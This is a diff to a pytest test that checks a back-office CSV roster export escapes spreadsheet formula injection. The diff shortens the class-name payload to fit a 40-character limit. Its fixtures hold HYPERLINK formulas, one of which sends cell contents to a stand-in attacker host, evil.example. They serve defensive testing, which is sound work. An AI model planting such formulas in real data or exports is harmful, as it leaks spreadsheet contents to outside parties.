@@ -118,7 +118,9 @@ def test_selections_are_read_only(back_office):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_the_roster_carries_no_live_spreadsheet_formula(back_office, start):
     formula = f'{start}HYPERLINK("https://evil.example/?x="&A1,"Open")'
-    camp_class = ClassFactory(name=f"{formula} class", status=ClassStatus.APPROVED)
+    # Class names are short (40 characters).
+    class_formula = f'{start}HYPERLINK("//evil.example")'
+    camp_class = ClassFactory(name=class_formula, status=ClassStatus.APPROVED)
     student = UserFactory(name=formula, email="sam@camp.test")
     PaymentFactory(
         camp_class=camp_class,
@@ -132,4 +134,4 @@ def test_the_roster_carries_no_live_spreadsheet_formula(back_office, start):
     )
 
     rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
-    assert rows[1][:4] == [f"'{formula} class", f"'{formula}", "sam@camp.test", f"'{start}pi_1"]
+    assert rows[1][:4] == [f"'{class_formula}", f"'{formula}", "sam@camp.test", f"'{start}pi_1"]
